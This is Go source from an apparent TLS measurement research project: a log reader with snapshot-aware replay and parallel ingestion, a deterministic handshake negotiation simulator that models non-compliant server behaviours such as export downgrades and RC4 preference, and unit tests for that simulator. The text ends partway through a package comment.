// in the log carries absolute generation gen+1. serve writes it when it
// truncates the -out log after compacting recovered state into a snapshot;
// ReadLogTail honors it when aligning a snapshot's record count against the
// log. Readers that ignore comments (a plain ReadLog replay, the parallel
// loader) see every record the file actually holds.
func LogBaseDirective(gen uint64) string {
	return fmt.Sprintf("%s%d\n", logBasePrefix, gen)
}

// parseLogBase recognizes a base directive line.
func parseLogBase(line string) (uint64, bool) {
	if !strings.HasPrefix(line, logBasePrefix) {
		return 0, false
	}
	gen, err := strconv.ParseUint(strings.TrimSpace(line[len(logBasePrefix):]), 10, 64)
	if err != nil {
		return 0, false
	}
	return gen, true
}

// LineError tags a malformed log line with its 1-based line number. It
// separates input the *producer* must fix (a bad line in the stream) from
// internal failures of the consuming sink — the live service maps the former
// to 4xx responses and everything else to 5xx.
type LineError struct {
	Line int
	Err  error
}

func (e *LineError) Error() string { return fmt.Sprintf("notary: line %d: %v", e.Line, e.Err) }

func (e *LineError) Unwrap() error { return e.Err }

// consumeLine applies the shared per-line semantics of both log readers:
// blank and comment (#...) lines are skipped, anything else is parsed into
// rec with the error tagged by its 1-based line number. It reports whether
// rec now holds a record.
func consumeLine(rec *Record, line string, lineNo int) (bool, error) {
	if line == "" || line[0] == '#' {
		return false, nil
	}
	if err := ParseTSVInto(rec, line); err != nil {
		return false, &LineError{Line: lineNo, Err: err}
	}
	return true, nil
}

// ReadLog parses a log written by LogWriter, delivering each record to
// sink. Comment lines (#...) are skipped. Parsing stops at the first error;
// malformed lines surface as *LineError. Records are parsed into a reused
// buffer, so the Sink contract applies: the record is only valid for the
// duration of Observe. The sink is not closed.
func ReadLog(r io.Reader, sink Sink) error {
	_, _, err := ReadLogTail(r, 0, sink)
	return err
}

// ReadLogTail is ReadLog that discards every record covered by the first
// skip generations before delivering the rest — the log-replay half of
// snapshot recovery: a snapshot covering generations 1..N plus the log tail
// past N reconstructs exactly the full stream. skip counts absolute
// generations, not log lines: a #base directive (see LogBaseDirective)
// declares that the log was truncated at some generation, so line i carries
// generation base+i. Skipped records are still parsed, so a corrupt line
// inside the covered prefix surfaces the same *LineError a full replay
// would. It returns the number of records delivered to sink and the first
// base directive seen (0 when the log starts at generation zero) — a base
// above the snapshot's generation means the gap is in neither source.
func ReadLogTail(r io.Reader, skip uint64, sink Sink) (delivered, base uint64, err error) {
	sc := bufio.NewScanner(r)
	sc.Buffer(make([]byte, 0, 1<<16), 1<<22)
	var rec Record
	lineNo := 0
	sawBase := false
	var gen uint64 // absolute generation of the last record line seen
	for sc.Scan() {
		lineNo++
		line := sc.Text()
		if b, ok := parseLogBase(line); ok {
			// A directive that rewinds would re-deliver records already
			// counted; nothing writes that, so treat it as corruption and
			// keep the valid prefix like any other torn line.
			if b < gen {
				return delivered, base, &LineError{Line: lineNo,
					Err: fmt.Errorf("base directive rewinds generation %d to %d", gen, b)}
			}
			if !sawBase {
				base, sawBase = b, true
			}
			gen = b
			continue
		}
		ok, err := consumeLine(&rec, line, lineNo)
		if err != nil {
			return delivered, base, err
		}
		if !ok {
			continue
		}
		gen++
		if gen <= skip {
			continue
		}
		if err := sink.Observe(&rec); err != nil {
			return delivered, base, err
		}
		delivered++
	}
	return delivered, base, sc.Err()
}

// defaultChunkSize is the byte granularity of sharded log ingestion: big
// enough to amortize dispatch, small enough to keep every worker busy on
// month-scale logs.
const defaultChunkSize = 1 << 20

// ReadLogParallel parses a log written by LogWriter on a pool of workers
// and returns the merged Aggregate. The byte stream is split on line
// boundaries into chunks, each chunk is parsed into a per-shard Aggregate,
// and the shards are combined with Aggregate.Merge — so the result is
// identical to feeding serial ReadLog into one Aggregate, for every worker
// count. workers <= 0 uses GOMAXPROCS; workers == 1 is the serial path.
// A malformed line produces the same "notary: line N" error the serial
// reader reports, and the earliest such line wins. One divergence: the
// chunked reader has no line-length ceiling, while the serial scanner
// rejects lines over 4 MiB (far beyond anything LogWriter emits).
func ReadLogParallel(r io.Reader, workers int) (*Aggregate, error) {
	return readLogParallel(r, workers, defaultChunkSize, nil)
}

// ReadLogParallelClassified is ReadLogParallel with a fingerprint classifier
// installed on every shard (and the merged result), so ByClientClass fills
// during the parallel ingest exactly as a serial classified Add would.
func ReadLogParallelClassified(r io.Reader, workers int, c Classifier) (*Aggregate, error) {
	return readLogParallel(r, workers, defaultChunkSize, c)
}

// readLogParallel is ReadLogParallel with the chunk size exposed, so tests
// can sweep chunk boundaries across every record offset.
func readLogParallel(r io.Reader, workers, chunkSize int, classifier Classifier) (*Aggregate, error) {
	if workers <= 0 {
		workers = runtime.GOMAXPROCS(0)
	}
	if workers == 1 {
		agg := NewAggregate()
		agg.SetClassifier(classifier)
		if err := ReadLog(r, agg); err != nil {
			return nil, err
		}
		return agg, nil
	}
	if chunkSize < 1 {
		chunkSize = 1
	}

	type chunk struct {
		data      []byte
		firstLine int // 1-based global line number of the chunk's first line
	}
	type shardErr struct {
		line int
		err  error
	}

	bufPool := sync.Pool{New: func() any {
		b := make([]byte, 0, chunkSize+4096)
		return &b
	}}
	jobs := make(chan chunk, workers)
	aggs := make([]*Aggregate, workers)
	errs := make([]shardErr, workers)
	var aborted atomic.Bool
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			agg := NewAggregate()
			agg.SetClassifier(classifier)
			aggs[w] = agg
			var rec Record
			for c := range jobs {
				// A worker keeps only its first error: its chunks arrive in
				// file order, so later ones cannot lower the error line. Other
				// workers still parse their dispatched chunks in full — the
				// dispatched chunks are a prefix of the file, so the minimum
				// error line across shards is exactly the line serial ReadLog
				// would have stopped at.
				if errs[w].err != nil {
					continue
				}
				lineNo := c.firstLine
				rest := c.data
				for len(rest) > 0 {
					var line []byte
					if i := bytes.IndexByte(rest, '\n'); i >= 0 {
						line, rest = rest[:i], rest[i+1:]
					} else {
						line, rest = rest, nil
					}
					// bufio.ScanLines strips a trailing \r; match it.
					if len(line) > 0 && line[len(line)-1] == '\r' {
						line = line[:len(line)-1]
					}
					ok, err := consumeLine(&rec, string(line), lineNo)
					if err != nil {
						errs[w] = shardErr{line: lineNo, err: err}
						aborted.Store(true)
						break
					}
					if ok {
						agg.Add(&rec)
					}
					lineNo++
				}
				data := c.data[:0]
				bufPool.Put(&data)
			}
		}(w)
	}

	// Chunker: read fixed-size blocks, cut at the last newline, and carry
	// the trailing partial line into the next chunk.
	var readErr error
	block := make([]byte, chunkSize)
	var carry []byte
	nextLine := 1
	dispatch := func(data []byte, firstLine int) {
		jobs <- chunk{data: data, firstLine: firstLine}
	}
	for !aborted.Load() {
		n, err := io.ReadFull(r, block)
		if n > 0 {
			data := block[:n]
			cut := bytes.LastIndexByte(data, '\n')
			if cut < 0 {
				carry = append(carry, data...)
			} else {
				bp := bufPool.Get().(*[]byte)
				buf := append((*bp)[:0], carry...)
				buf = append(buf, data[:cut+1]...)
				carry = append(carry[:0], data[cut+1:]...)
				first := nextLine
				nextLine += bytes.Count(buf, []byte{'\n'})
				dispatch(buf, first)
			}
		}
		if err != nil {
			if err != io.EOF && err != io.ErrUnexpectedEOF {
				readErr = err
			}
			break
		}
	}
	if readErr == nil && len(carry) > 0 && !aborted.Load() {
		dispatch(carry, nextLine)
	}
	close(jobs)
	wg.Wait()

	if readErr != nil {
		return nil, readErr
	}
	first := shardErr{}
	for _, se := range errs {
		if se.err != nil && (first.err == nil || se.line < first.line) {
			first = se
		}
	}
	if first.err != nil {
		return nil, first.err
	}
	agg := NewAggregate()
	agg.SetClassifier(classifier)
	for _, shard := range aggs {
		agg.Merge(shard)
	}
	return agg, nil
}
