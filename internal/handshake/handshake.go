// Package handshake implements the server side of SSL/TLS parameter
// negotiation as the study needs to model it: version selection (including
// TLS 1.3 supported_versions and downgrade/fallback handling), cipher-suite
// selection under server or client preference, extension echo, and the
// spec-violating behaviours the paper caught in the wild (§5.5, §7.3).
//
// The engine is deliberately pure: it maps (ClientHello, ServerConfig) to a
// deterministic Result with no I/O, so the same code path serves the passive
// traffic simulator, the TCP server farm and the unit tests.
package handshake

import (
	"fmt"

	"tlsage/internal/registry"
	"tlsage/internal/wire"
)

// Misbehavior enumerates the non-compliant server behaviours observed in the
// study.
type Misbehavior uint8

// Misbehaviors.
const (
	// BehaveCompliant follows the RFC.
	BehaveCompliant Misbehavior = iota
	// BehaveChooseGOST answers with a GOST suite the client never offered
	// (§7.3). Standard clients abort such handshakes.
	BehaveChooseGOST
	// BehaveExportDowngrade answers a plain RC4_128 offer with
	// EXP_RC4_40_MD5, the Interwise anomaly of §5.5. Some clients complete
	// the handshake anyway.
	BehaveExportDowngrade
	// BehavePreferRC4 picks RC4 whenever offered even though stronger
	// suites are available — the bankmellat.ir behaviour of §5.3.
	BehavePreferRC4
	// BehaveChooseNULL answers with an anonymous NULL suite not offered by
	// the client (§7.3).
	BehaveChooseNULL
)

// ServerConfig is one server's TLS posture.
type ServerConfig struct {
	// Name labels the configuration cohort for logs.
	Name string
	// MinVersion and MaxVersion bound the negotiable protocol versions.
	MinVersion, MaxVersion registry.Version
	// SupportsSSLv2 answers SSLv2 CLIENT-HELLOs (§5.1's Nagios servers).
	SupportsSSLv2 bool
	// Suites is the supported suite set in server preference order.
	Suites []uint16
	// PreferServerOrder selects by server preference; otherwise the client
	// list order wins.
	PreferServerOrder bool
	// Curves is the set of supported named groups.
	Curves []registry.CurveID
	// TLS13Variants lists the 1.3 draft/experimental code points the server
	// accepts in supported_versions. Empty means "any 1.3 variant" when
	// MaxVersion is 1.3.
	TLS13Variants []registry.Version
	// HeartbeatEnabled echoes the heartbeat extension when offered (§5.4).
	HeartbeatEnabled bool
	// HeartbleedVulnerable marks servers running unpatched OpenSSL 1.0.1
	// (only meaningful when HeartbeatEnabled).
	HeartbleedVulnerable bool
	// VersionIntolerant models the broken middleboxes and servers that
	// reject ClientHellos whose version field exceeds what they speak —
	// the reason browsers performed the fallback dance POODLE exploited.
	VersionIntolerant bool
	// Misbehavior selects a non-compliant negotiation behaviour.
	Misbehavior Misbehavior
}

// Validate checks structural sanity.
func (c *ServerConfig) Validate() error {
	if c.MaxVersion < c.MinVersion {
		return fmt.Errorf("handshake: %s: max version %v below min %v", c.Name, c.MaxVersion, c.MinVersion)
	}
	if len(c.Suites) == 0 && c.Misbehavior == BehaveCompliant {
		return fmt.Errorf("handshake: %s: no suites", c.Name)
	}
	for _, id := range c.Suites {
		if _, ok := registry.SuiteByID(id); !ok {
			return fmt.Errorf("handshake: %s: unknown suite %#04x", c.Name, id)
		}
	}
	return nil
}

// Supports reports whether the server's suite set contains a suite matching
// pred.
func (c *ServerConfig) Supports(pred func(registry.Suite) bool) bool {
	return registry.ListHas(c.Suites, pred)
}

// Result is the outcome of one negotiation.
type Result struct {
	// OK is true when the server answered with a ServerHello (even a
	// non-compliant one); false when it alerted.
	OK bool
	// Alert is set when OK is false.
	Alert wire.Alert
	// Version is the negotiated protocol version (canonical: TLS 1.3 drafts
	// collapse to TLS 1.3).
	Version registry.Version
	// Suite is the chosen cipher suite.
	Suite uint16
	// Curve is the named group serving an ECDHE exchange, 0 otherwise.
	Curve registry.CurveID
	// SuiteUnoffered marks spec-violating choices of suites the client did
	// not offer; compliant clients abort these handshakes.
	SuiteUnoffered bool
	// HeartbeatAck is true when the server echoed the heartbeat extension.
	HeartbeatAck bool
	// ServerHello is the full message the server would send.
	ServerHello *wire.ServerHello
}

// Negotiate runs server-side parameter selection for one ClientHello.
func Negotiate(ch *wire.ClientHello, cfg *ServerConfig) Result {
	if cfg.VersionIntolerant && ch.Version > cfg.MaxVersion {
		// Broken implementations abort instead of negotiating down.
		return alertResult(wire.AlertHandshakeFailure)
	}
	version, ok := selectVersion(ch, cfg)
	if !ok {
		return alertResult(wire.AlertProtocolVersion)
	}
	if hasSuite(ch.CipherSuites, 0x5600) && version < cfg.MaxVersion && cfg.MaxVersion <= registry.VersionTLS12 {
		// RFC 7507: the client fell back below what we mutually support.
		return alertResult(wire.AlertInappropriateFallback)
	}

	var suite uint16
	var unoffered bool
	switch cfg.Misbehavior {
	case BehaveChooseGOST:
		suite, unoffered = 0x0081, !hasSuite(ch.CipherSuites, 0x0081)
	case BehaveChooseNULL:
		suite, unoffered = 0x0082, !hasSuite(ch.CipherSuites, 0x0082)
	case BehaveExportDowngrade:
		if hasSuite(ch.CipherSuites, 0x0005) || hasSuite(ch.CipherSuites, 0x0004) {
			suite, unoffered = 0x0003, true
		}
	}
	if suite == 0 {
		s, ok := selectSuite(ch, cfg, version)
		if !ok {
			return alertResult(wire.AlertHandshakeFailure)
		}
		suite = s
	}

	res := Result{
		OK:             true,
		Version:        version.Canonical(),
		Suite:          suite,
		SuiteUnoffered: unoffered,
	}
	if s, known := registry.SuiteByID(suite); known {
		switch s.Kex {
		case registry.KexECDHE, registry.KexECDH, registry.KexTLS13:
			res.Curve = selectCurve(ch, cfg)
		}
	}
	if cfg.HeartbeatEnabled && ch.OffersHeartbeat() {
		res.HeartbeatAck = true
	}
	res.ServerHello = buildServerHello(&res, version)
	return res
}

func alertResult(desc uint8) Result {
	return Result{Alert: wire.Alert{Level: 2, Description: desc}}
}

// selectVersion picks the protocol version. TLS 1.3 negotiation goes through
// supported_versions; everything older through the legacy version field.
func selectVersion(ch *wire.ClientHello, cfg *ServerConfig) (registry.Version, bool) {
	if cfg.MaxVersion.Canonical() == registry.VersionTLS13 {
		if v, ok := match13Variant(ch, cfg); ok {
			return v, true
		}
	}
	clientMax := ch.Version
	if clientMax > registry.VersionTLS12 {
		clientMax = registry.VersionTLS12 // 1.3 clients use a 1.2 legacy field
	}
	serverMax := cfg.MaxVersion
	if serverMax > registry.VersionTLS12 {
		serverMax = registry.VersionTLS12
	}
	v := clientMax
	if serverMax < v {
		v = serverMax
	}
	if v < cfg.MinVersion {
		return 0, false
	}
	return v, true
}

// match13Variant finds a TLS 1.3 version both sides speak. The paper's
// observation window is full of incompatible drafts (0x7e02, draft 18, ...),
// so exact variant matching matters: a draft-18 client gets nothing from a
// 0x7e02-only server.
func match13Variant(ch *wire.ClientHello, cfg *ServerConfig) (registry.Version, bool) {
	offered := ch.SupportedVersions()
	if len(offered) == 0 {
		return 0, false
	}
	accepts := func(v registry.Version) bool {
		if !v.IsTLS13Variant() {
			return false
		}
		if len(cfg.TLS13Variants) == 0 {
			return true
		}
		for _, s := range cfg.TLS13Variants {
			if s == v {
				return true
			}
		}
		return false
	}
	for _, v := range offered {
		if registry.IsGREASE(uint16(v)) {
			continue
		}
		if accepts(v) {
			return v, true
		}
	}
	return 0, false
}

// selectSuite picks the cipher suite honouring preference order, version
// floors and curve availability.
func selectSuite(ch *wire.ClientHello, cfg *ServerConfig, version registry.Version) (uint16, bool) {
	primary, secondary := ch.CipherSuites, cfg.Suites
	if cfg.PreferServerOrder {
		primary, secondary = cfg.Suites, ch.CipherSuites
	}
	if cfg.Misbehavior == BehavePreferRC4 {
		// Non-compliant preference: any mutually supported RC4 suite first.
		for _, id := range ch.CipherSuites {
			if s, ok := registry.SuiteByID(id); ok && s.IsRC4() && hasSuite(cfg.Suites, id) &&
				usable(s, ch, cfg, version) {
				return id, true
			}
		}
	}
	for _, id := range primary {
		if !hasSuite(secondary, id) {
			continue
		}
		s, ok := registry.SuiteByID(id)
		if !ok || id == 0x00FF || id == 0x5600 || registry.IsGREASE(id) {
			continue
		}
		if !usable(s, ch, cfg, version) {
			continue
		}
		return id, true
	}
	return 0, false
}

// usable reports whether suite s can serve the negotiated version with the
// client's and server's curves.
func usable(s registry.Suite, ch *wire.ClientHello, cfg *ServerConfig, version registry.Version) bool {
	if version.Canonical() == registry.VersionTLS13 {
		return s.IsTLS13()
	}
	if s.IsTLS13() {
		return false
	}
	if s.MinVersion > version {
		return false
	}
	switch s.Kex {
	case registry.KexECDHE, registry.KexECDH:
		return selectCurve(ch, cfg) != 0
	}
	return true
}

// selectCurve returns the first client-offered group the server supports.
func selectCurve(ch *wire.ClientHello, cfg *ServerConfig) registry.CurveID {
	for _, c := range ch.SupportedGroups() {
		if registry.IsGREASE(uint16(c)) {
			continue
		}
		for _, s := range cfg.Curves {
			if s == c {
				return c
			}
		}
	}
	return 0
}

func hasSuite(list []uint16, id uint16) bool {
	for _, v := range list {
		if v == id {
			return true
		}
	}
	return false
}

// buildServerHello assembles the wire message for a successful negotiation.
// rawVersion is the pre-canonicalization version (a 1.3 draft keeps its
// draft code point inside supported_versions).
func buildServerHello(res *Result, rawVersion registry.Version) *wire.ServerHello {
	sh := &wire.ServerHello{
		CipherSuite: res.Suite,
	}
	if rawVersion.IsTLS13Variant() {
		sh.Version = registry.VersionTLS12
		sh.Extensions = append(sh.Extensions, wire.NewServerSupportedVersionsExtension(rawVersion))
	} else {
		sh.Version = rawVersion
	}
	if res.HeartbeatAck {
		sh.Extensions = append(sh.Extensions, wire.NewHeartbeatExtension(1))
	}
	return sh
}

// NegotiateSSLv2 answers an SSLv2 CLIENT-HELLO: only servers still speaking
// SSLv2 respond; everything else drops the connection.
func NegotiateSSLv2(h *wire.SSLv2ClientHello, cfg *ServerConfig) Result {
	if !cfg.SupportsSSLv2 || len(h.CipherSpecs) == 0 {
		return alertResult(wire.AlertHandshakeFailure)
	}
	// Pick the first TLS-compatible spec if present, else record the v2
	// spec in the low 16 bits for logging.
	suite := uint16(h.CipherSpecs[0] & 0xffff)
	if tls := wire.TLSSuitesFromSSLv2(h.CipherSpecs); len(tls) > 0 {
		suite = tls[0]
	}
	return Result{OK: true, Version: registry.VersionSSL2, Suite: suite}
}
