package handshake

import (
	"math/rand"
	"testing"
	"testing/quick"

	"tlsage/internal/registry"
	"tlsage/internal/wire"
)

func hello(version registry.Version, suites []uint16, exts ...wire.Extension) *wire.ClientHello {
	return &wire.ClientHello{
		Version:      version,
		CipherSuites: suites,
		Extensions:   exts,
	}
}

func modernServer() *ServerConfig {
	return &ServerConfig{
		Name:       "modern",
		MinVersion: registry.VersionTLS10,
		MaxVersion: registry.VersionTLS12,
		Suites: []uint16{0xC02F, 0xC030, 0xC013, 0xC014, 0x009C, 0x002F, 0x0035,
			0x000A},
		PreferServerOrder: true,
		Curves:            []registry.CurveID{registry.CurveX25519, registry.CurveSecp256r1},
	}
}

func groupsExt(curves ...registry.CurveID) wire.Extension {
	return wire.NewSupportedGroupsExtension(curves)
}

func TestNegotiateBasicAEAD(t *testing.T) {
	ch := hello(registry.VersionTLS12, []uint16{0xC02F, 0xC013, 0x002F},
		groupsExt(registry.CurveSecp256r1))
	res := Negotiate(ch, modernServer())
	if !res.OK {
		t.Fatalf("alerted: %v", res.Alert)
	}
	if res.Version != registry.VersionTLS12 || res.Suite != 0xC02F {
		t.Fatalf("got %v %04x", res.Version, res.Suite)
	}
	if res.Curve != registry.CurveSecp256r1 {
		t.Errorf("curve = %v", res.Curve)
	}
	if res.ServerHello == nil || res.ServerHello.CipherSuite != 0xC02F {
		t.Error("server hello missing/incorrect")
	}
}

func TestNegotiateClientPreference(t *testing.T) {
	cfg := modernServer()
	cfg.PreferServerOrder = false
	ch := hello(registry.VersionTLS12, []uint16{0x002F, 0xC02F},
		groupsExt(registry.CurveSecp256r1))
	res := Negotiate(ch, cfg)
	if res.Suite != 0x002F {
		t.Errorf("client-preference pick = %04x, want 0x002f", res.Suite)
	}
}

func TestNegotiateVersionIntersection(t *testing.T) {
	cfg := modernServer()
	// TLS 1.0 client vs TLS 1.2 server → TLS 1.0.
	ch := hello(registry.VersionTLS10, []uint16{0x002F})
	res := Negotiate(ch, cfg)
	if !res.OK || res.Version != registry.VersionTLS10 {
		t.Fatalf("got %v", res.Version)
	}
	// Version floor rejects SSL3-only client.
	ch = hello(registry.VersionSSL3, []uint16{0x002F})
	res = Negotiate(ch, cfg)
	if res.OK || res.Alert.Description != wire.AlertProtocolVersion {
		t.Fatalf("SSL3 client should be alerted, got %+v", res)
	}
}

func TestNegotiateVersionDependentSuites(t *testing.T) {
	// GCM requires TLS 1.2: a TLS 1.1 client offering only GCM fails.
	ch := hello(registry.VersionTLS11, []uint16{0x009C})
	res := Negotiate(ch, modernServer())
	if res.OK {
		t.Fatal("GCM on TLS 1.1 should fail")
	}
	// With a CBC suite added, negotiation succeeds on the CBC suite.
	ch = hello(registry.VersionTLS11, []uint16{0x009C, 0x002F})
	res = Negotiate(ch, modernServer())
	if !res.OK || res.Suite != 0x002F {
		t.Fatalf("got %+v", res)
	}
}

func TestNegotiateECDHERequiresCommonCurve(t *testing.T) {
	cfg := modernServer()
	// Client offers ECDHE suites but only an unsupported curve.
	ch := hello(registry.VersionTLS12, []uint16{0xC02F, 0x009C},
		groupsExt(registry.CurveSect571r1))
	res := Negotiate(ch, cfg)
	if !res.OK {
		t.Fatal(res.Alert)
	}
	if res.Suite != 0x009C {
		t.Errorf("should skip ECDHE without common curve, got %04x", res.Suite)
	}
	// No groups extension at all: ECDHE unusable.
	ch = hello(registry.VersionTLS12, []uint16{0xC02F, 0x0035})
	res = Negotiate(ch, cfg)
	if res.Suite != 0x0035 {
		t.Errorf("got %04x", res.Suite)
	}
}

func TestNegotiateTLS13VariantMatching(t *testing.T) {
	server13 := &ServerConfig{
		Name:       "tls13",
		MinVersion: registry.VersionTLS10,
		MaxVersion: registry.VersionTLS13,
		Suites:     []uint16{0x1301, 0x1303, 0xC02F, 0x002F},
		Curves:     []registry.CurveID{registry.CurveX25519},
		TLS13Variants: []registry.Version{
			registry.VersionTLS13Google,
		},
	}
	// Matching experimental variant negotiates 1.3.
	ch := hello(registry.VersionTLS12, []uint16{0x1301, 0xC02F},
		groupsExt(registry.CurveX25519),
		wire.NewSupportedVersionsExtension([]registry.Version{
			registry.VersionTLS13Google, registry.VersionTLS12}))
	res := Negotiate(ch, server13)
	if !res.OK || res.Version != registry.VersionTLS13 || res.Suite != 0x1301 {
		t.Fatalf("got %+v", res)
	}
	// The ServerHello keeps the draft code point in supported_versions.
	if res.ServerHello.SelectedVersion() != registry.VersionTLS13Google {
		t.Errorf("selected version on wire = %v", res.ServerHello.SelectedVersion())
	}
	if res.ServerHello.Version != registry.VersionTLS12 {
		t.Errorf("legacy field = %v, want TLS12", res.ServerHello.Version)
	}

	// Draft-18 client against a 0x7e02-only server falls back to 1.2.
	ch = hello(registry.VersionTLS12, []uint16{0x1301, 0xC02F},
		groupsExt(registry.CurveX25519),
		wire.NewSupportedVersionsExtension([]registry.Version{
			registry.VersionTLS13Draft18, registry.VersionTLS12}))
	res = Negotiate(ch, server13)
	if !res.OK || res.Version != registry.VersionTLS12 || res.Suite != 0xC02F {
		t.Fatalf("draft mismatch should fall back to 1.2: %+v", res)
	}
}

func TestNegotiateTLS13AnyVariant(t *testing.T) {
	server13 := &ServerConfig{
		Name:       "tls13-any",
		MinVersion: registry.VersionTLS10,
		MaxVersion: registry.VersionTLS13,
		Suites:     []uint16{0x1301, 0xC02F},
		Curves:     []registry.CurveID{registry.CurveX25519},
	}
	ch := hello(registry.VersionTLS12, []uint16{0x1301},
		groupsExt(registry.CurveX25519),
		wire.NewSupportedVersionsExtension([]registry.Version{registry.VersionTLS13Draft18}))
	res := Negotiate(ch, server13)
	if !res.OK || res.Version != registry.VersionTLS13 {
		t.Fatalf("got %+v", res)
	}
}

func TestFallbackSCSV(t *testing.T) {
	cfg := modernServer()
	// A fallback hello at TLS 1.0 against a 1.2 server triggers
	// inappropriate_fallback.
	ch := hello(registry.VersionTLS10, []uint16{0x002F, 0x5600})
	res := Negotiate(ch, cfg)
	if res.OK || res.Alert.Description != wire.AlertInappropriateFallback {
		t.Fatalf("got %+v", res)
	}
	// Same hello at the server's max version is fine.
	ch = hello(registry.VersionTLS12, []uint16{0x002F, 0x5600})
	res = Negotiate(ch, cfg)
	if !res.OK {
		t.Fatalf("got %+v", res)
	}
}

func TestHeartbeatEcho(t *testing.T) {
	cfg := modernServer()
	cfg.HeartbeatEnabled = true
	ch := hello(registry.VersionTLS12, []uint16{0x002F}, wire.NewHeartbeatExtension(1))
	res := Negotiate(ch, cfg)
	if !res.HeartbeatAck {
		t.Error("heartbeat not echoed")
	}
	if !res.ServerHello.AcksHeartbeat() {
		t.Error("server hello missing heartbeat extension")
	}
	// Not offered → not echoed.
	res = Negotiate(hello(registry.VersionTLS12, []uint16{0x002F}), cfg)
	if res.HeartbeatAck {
		t.Error("heartbeat echoed unprompted")
	}
	// Offered but disabled → not echoed.
	cfg.HeartbeatEnabled = false
	res = Negotiate(ch, cfg)
	if res.HeartbeatAck {
		t.Error("disabled heartbeat echoed")
	}
}

func TestMisbehaviorGOST(t *testing.T) {
	cfg := modernServer()
	cfg.Misbehavior = BehaveChooseGOST
	ch := hello(registry.VersionTLS12, []uint16{0xC02F, 0x002F},
		groupsExt(registry.CurveSecp256r1))
	res := Negotiate(ch, cfg)
	if !res.OK || res.Suite != 0x0081 || !res.SuiteUnoffered {
		t.Fatalf("got %+v", res)
	}
}

func TestMisbehaviorExportDowngrade(t *testing.T) {
	cfg := &ServerConfig{
		Name:        "interwise",
		MinVersion:  registry.VersionSSL3,
		MaxVersion:  registry.VersionTLS10,
		Suites:      []uint16{0x0003, 0x0005},
		Misbehavior: BehaveExportDowngrade,
	}
	// The paper's exact scenario: client offers RC4_128_SHA (non-export),
	// server answers EXP_RC4_40_MD5.
	ch := hello(registry.VersionTLS10, []uint16{0x0005})
	res := Negotiate(ch, cfg)
	if !res.OK || res.Suite != 0x0003 || !res.SuiteUnoffered {
		t.Fatalf("got %+v", res)
	}
}

func TestMisbehaviorPreferRC4(t *testing.T) {
	cfg := modernServer()
	cfg.Misbehavior = BehavePreferRC4
	cfg.Suites = append([]uint16{}, cfg.Suites...)
	cfg.Suites = append(cfg.Suites, 0x0005)
	// bankmellat.ir: RC4 chosen despite much stronger offers.
	ch := hello(registry.VersionTLS12, []uint16{0xC02F, 0x009C, 0x0005},
		groupsExt(registry.CurveSecp256r1))
	res := Negotiate(ch, cfg)
	if !res.OK || res.Suite != 0x0005 {
		t.Fatalf("got %+v", res)
	}
	// Without RC4 in the client list, a modern AEAD suite is chosen —
	// exactly what the paper observed when removing RC4 from the offer.
	ch = hello(registry.VersionTLS12, []uint16{0xC02F, 0x009C},
		groupsExt(registry.CurveSecp256r1))
	res = Negotiate(ch, cfg)
	if !res.OK || res.Suite != 0xC02F {
		t.Fatalf("got %+v", res)
	}
}

func TestNegotiateNoCommonSuite(t *testing.T) {
	ch := hello(registry.VersionTLS12, []uint16{0x1301}) // 1.3-only offer to a 1.2 server
	res := Negotiate(ch, modernServer())
	if res.OK || res.Alert.Description != wire.AlertHandshakeFailure {
		t.Fatalf("got %+v", res)
	}
}

func TestGREASEIgnoredInNegotiation(t *testing.T) {
	cfg := modernServer()
	cfg.Suites = append([]uint16{0x0a0a}, cfg.Suites...) // GREASE must never be selected
	ch := hello(registry.VersionTLS12, []uint16{0x0a0a, 0xC02F, 0x002F},
		groupsExt(registry.CurveSecp256r1))
	res := Negotiate(ch, cfg)
	if !res.OK || registry.IsGREASE(res.Suite) {
		t.Fatalf("GREASE selected: %+v", res)
	}
}

func TestNegotiateSSLv2(t *testing.T) {
	v2 := &wire.SSLv2ClientHello{
		Version:     registry.VersionSSL2,
		CipherSpecs: []uint32{0x010080, 0x000005},
		Challenge:   make([]byte, 16),
	}
	cfg := modernServer()
	res := NegotiateSSLv2(v2, cfg)
	if res.OK {
		t.Fatal("modern server answered SSLv2")
	}
	cfg.SupportsSSLv2 = true
	res = NegotiateSSLv2(v2, cfg)
	if !res.OK || res.Version != registry.VersionSSL2 || res.Suite != 0x0005 {
		t.Fatalf("got %+v", res)
	}
}

func TestServerConfigValidate(t *testing.T) {
	good := modernServer()
	if err := good.Validate(); err != nil {
		t.Fatal(err)
	}
	bad := &ServerConfig{Name: "b", MinVersion: registry.VersionTLS12, MaxVersion: registry.VersionTLS10, Suites: []uint16{0x002F}}
	if err := bad.Validate(); err == nil {
		t.Error("inverted version bounds accepted")
	}
	bad2 := &ServerConfig{Name: "b2", MinVersion: registry.VersionTLS10, MaxVersion: registry.VersionTLS12, Suites: []uint16{0x9999}}
	if err := bad2.Validate(); err == nil {
		t.Error("unknown suite accepted")
	}
}

// Property: whenever negotiation succeeds on a compliant server, the chosen
// suite is in both lists, respects the version floor, and is never GREASE or
// an SCSV.
func TestNegotiateInvariants(t *testing.T) {
	cfg := modernServer()
	cfg.HeartbeatEnabled = true
	pool := []uint16{0xC02F, 0xC030, 0xC013, 0xC014, 0x009C, 0x009D, 0x002F,
		0x0035, 0x000A, 0x0005, 0x0004, 0x1301, 0x00FF, 0x5600, 0x0a0a}
	rnd := rand.New(rand.NewSource(11))
	f := func(seed int64) bool {
		r := rand.New(rand.NewSource(seed ^ rnd.Int63()))
		n := 1 + r.Intn(8)
		suites := make([]uint16, n)
		for i := range suites {
			suites[i] = pool[r.Intn(len(pool))]
		}
		versions := []registry.Version{registry.VersionSSL3, registry.VersionTLS10,
			registry.VersionTLS11, registry.VersionTLS12}
		ch := hello(versions[r.Intn(len(versions))], suites,
			groupsExt(registry.CurveSecp256r1))
		res := Negotiate(ch, cfg)
		if !res.OK {
			return true
		}
		if registry.IsGREASE(res.Suite) || res.Suite == 0x00FF || res.Suite == 0x5600 {
			return false
		}
		if !hasSuite(ch.CipherSuites, res.Suite) || !hasSuite(cfg.Suites, res.Suite) {
			return false
		}
		s, ok := registry.SuiteByID(res.Suite)
		if !ok || s.MinVersion > res.Version {
			return false
		}
		return res.Version >= cfg.MinVersion && res.Version <= cfg.MaxVersion
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 1000}); err != nil {
		t.Fatal(err)
	}
}
