// Package core is the public entry point of the library: it wires the
// substrates (populations, simulator, notary, fingerprint database, scanner,
// serverfarm, analysis) into the two workflows of the paper —
//
//   - Study: the passive Notary measurement (Feb 2012 – Apr 2018), yielding
